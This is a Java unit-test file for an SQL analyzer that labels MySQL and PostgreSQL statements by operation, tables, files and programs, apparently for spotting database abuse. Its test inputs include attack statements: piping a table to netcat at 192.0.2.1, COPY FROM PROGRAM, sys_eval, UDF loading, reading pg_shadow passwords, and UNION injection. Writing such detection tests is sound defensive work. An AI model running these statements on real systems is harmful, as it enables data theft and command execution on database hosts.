package dwell.correlate;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SqlAnalyzerTest {
  private final SqlAnalyzer analyzer = new SqlAnalyzer();

  private SqlAnalysis mysql(String sql) {
    return analyzer.analyze(sql, "mysql", "store");
  }

  private SqlAnalysis postgresql(String sql) {
    return analyzer.analyze(sql, "postgresql", "ledger");
  }

  private static List<String> names(SqlAnalysis analysis) {
    return analysis.tables().stream().map(TableUse::qualified).toList();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "SELECT * FROM items|READ|store.items",
        "SELECT 1|SESSION|",
        "SELECT @@version_comment LIMIT 1|SESSION|",
        "SHOW TABLES|CATALOGUE|",
        "SHOW VARIABLES LIKE 'x'|SESSION|",
        "SHOW FIELDS FROM `items` FROM `other`|CATALOGUE|store.items",
        "SELECT table_name FROM information_schema.tables|CATALOGUE|information_schema.tables",
        "DELETE FROM items WHERE id = 1|WRITE|store.items",
        "REPLACE INTO other.items VALUES (1)|WRITE|other.items",
        "TRUNCATE items|WRITE|store.items",
        "DROP TABLE IF EXISTS a, b|SCHEMA|store.a,store.b",
        "GRANT ALL ON store.* TO 'x'@'%'|GRANT|",
        "UPDATE mysql.user SET plugin='' WHERE User='root'|GRANT|mysql.user",
        "SELECT LOAD_FILE('/etc/hostname')|FILE_ACCESS|",
        "SELECT a FROM items INTO OUTFILE '/tmp/x'|FILE_ACCESS|store.items",
        "SELECT sys_eval('id')|PROGRAM_EXECUTION|",
        "CREATE FUNCTION f RETURNS INT SONAME 'udf.so'|PROGRAM_EXECUTION|",
        "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE items|WRITE|store.items",
        "LOAD DATA INFILE '/tmp/x' INTO TABLE items|FILE_ACCESS|store.items",
        "SELECT TRIM(BOTH FROM name) FROM items|READ|store.items",
        "SELECT 1 FROM a, b c LEFT JOIN d.e f ON c.x = f.y|READ|store.a,store.b,d.e",
        "SELECT * FROM (SELECT id FROM items) AS t|READ|store.items",
        "DELETE a FROM a JOIN b USING (id)|WRITE|store.a,store.b",
        "INSERT INTO t SELECT * FROM s ON DUPLICATE KEY UPDATE a = 1|WRITE|store.t,store.s",
        "frobnicate the ' database (|UNKNOWN|",
      })
  void mysqlStatements(String sql, SqlOperation operation, String tables) {
    SqlAnalysis analysis = mysql(sql);
    assertThat(analysis.operation()).isEqualTo(operation);
    assertThat(names(analysis)).isEqualTo(tables == null ? List.of() : List.of(tables.split(",")));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "COPY sales.orders (id, total) TO stdout;|READ|sales.orders",
        "COPY t TO '/tmp/x'|FILE_ACCESS|t",
        "COPY (SELECT * FROM people) TO PROGRAM 'nc 192.0.2.1 9'|PROGRAM_EXECUTION|people",
        "COPY t FROM PROGRAM 'id'|PROGRAM_EXECUTION|t",
        "COPY t FROM STDIN|WRITE|t",
        "SELECT lo_export(1, '/tmp/x')|FILE_ACCESS|",
        "SELECT passwd FROM pg_shadow|CATALOGUE|pg_catalog.pg_shadow",
        "WITH x AS (SELECT * FROM a) SELECT * FROM x JOIN b USING (id)|READ|a,b",
        "WITH gone AS (DELETE FROM a RETURNING *) SELECT * FROM gone|WRITE|a",
        "DECLARE c CURSOR FOR SELECT * FROM people|READ|people",
        "ALTER ROLE app SUPERUSER|GRANT|",
        "BEGIN; DELETE FROM a; COMMIT|WRITE|a",
        "EXPLAIN ANALYZE SELECT * FROM people|READ|people",
        "SELECT \"a\".b FROM \"Odd Name\" AS \"a\"|READ|Odd Name",
        "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE plpython3u|PROGRAM_EXECUTION|",
        "CREATE USER MAPPING FOR app SERVER other|SCHEMA|",
      })
  void postgresqlStatements(String sql, SqlOperation operation, String tables) {
    SqlAnalysis analysis = postgresql(sql);
    assertThat(analysis.operation()).isEqualTo(operation);
    assertThat(names(analysis)).isEqualTo(tables == null ? List.of() : List.of(tables.split(",")));
  }

  @Test
  void executableCommentsAreCode() {
    SqlAnalysis dump = mysql("SELECT /*!40001 SQL_NO_CACHE */ `id`, `mail` FROM `people`");
    assertThat(dump.dump()).isTrue();
    assertThat(dump.tables().getFirst().columns()).containsExactly("id", "mail");
    assertThat(names(mysql("SELECT 1 /*!50000 UNION SELECT pw FROM people */")))
        .containsExactly("store.people");
    assertThat(names(mysql("SELECT 1 /* FROM people */"))).isEmpty();
  }

  @Test
  void limitsBoundRows() {
    assertThat(mysql("SELECT * FROM t LIMIT 10, 20").atMost()).isEqualTo(20);
    assertThat(mysql("SELECT * FROM t LIMIT 20 OFFSET 10").atMost()).isEqualTo(20);
    assertThat(mysql("SELECT * FROM t WHERE a IN (SELECT b FROM s LIMIT 3)").atMost())
        .isEqualTo(-1);
    assertThat(postgresql("SELECT * FROM t FETCH FIRST 5 ROWS ONLY").atMost()).isEqualTo(5);
    SqlAnalysis count = mysql("SELECT COUNT(*), MAX(id) FROM t");
    assertThat(count.aggregateOnly()).isTrue();
    assertThat(count.atMost()).isEqualTo(1);
    assertThat(mysql("SELECT COUNT(*) FROM t GROUP BY a").aggregateOnly()).isFalse();
  }

  @Test
  void columnsGoToTheirTables() {
    SqlAnalysis join = mysql("SELECT p.mail, o.* FROM people p JOIN orders o ON o.pid = p.id");
    assertThat(join.tables().get(0).columns()).containsExactly("mail");
    assertThat(join.tables().get(1).columns()).containsExactly("*");
    SqlAnalysis union = mysql("SELECT name FROM items WHERE id = -1 UNION SELECT pw FROM people");
    assertThat(union.tables().get(1).columns()).containsExactly("pw");
  }

  @Test
  void fingerprintsAreEqualWhereOnlyValuesDiffer() {
    assertThat(mysql("SELECT a FROM t WHERE b = 'it''s' AND c IN (1, 2,3)").fingerprint())
        .isEqualTo(mysql("select  a from t where b = \"x\\\"y\" and c in (7)").fingerprint())
        .isEqualTo("select a from t where b = ? and c in (?)");
  }

  @Test
  void accountsFilesAndProgramsAreTold() {
    assertThat(mysql("CREATE USER IF NOT EXISTS 'a b'@'192.0.2.%' IDENTIFIED BY 'x'").accounts())
        .containsExactly("a b");
    assertThat(mysql("GRANT SELECT ON *.* TO `x`@`%`, y@localhost").accounts())
        .containsExactly("x", "y");
    assertThat(mysql("SELECT a INTO DUMPFILE '/tmp/y' FROM t").files()).containsExactly("/tmp/y");
    assertThat(postgresql("COPY t TO PROGRAM 'gzip > /tmp/z'").programs())
        .containsExactly("gzip > /tmp/z");
  }

  @Test
  void anyTextIsAnalysed() {
    long seed = Long.getLong("dwell.seed", 7);
    Random random = new Random(seed);
    String[] parts = {
      "SELECT", " ", "*", "FROM", "t", "(", ")", "'", "\"", "`", "/*", "*/", "/*!", "--", "#", "$$",
      "$a$", ",", ";", ".", "UNION", "INTO", "OUTFILE", "COPY", "TO", "PROGRAM", "WITH", "AS",
      "LIMIT", "1", "\\", "\n", "é", "@", ":", "?", "GRANT", "ON", "JOIN", "UPDATE", "SET"
    };
    for (int i = 0; i < 2_000; i++) {
      StringBuilder sql = new StringBuilder();
      for (int n = random.nextInt(30); n > 0; n--) {
        sql.append(parts[random.nextInt(parts.length)]).append(random.nextBoolean() ? " " : "");
      }
      assertThat(mysql(sql.toString()).operation()).as("seed %d: %s", seed, sql).isNotNull();
      assertThat(postgresql(sql.toString()).operation()).as("seed %d: %s", seed, sql).isNotNull();
    }
  }
}
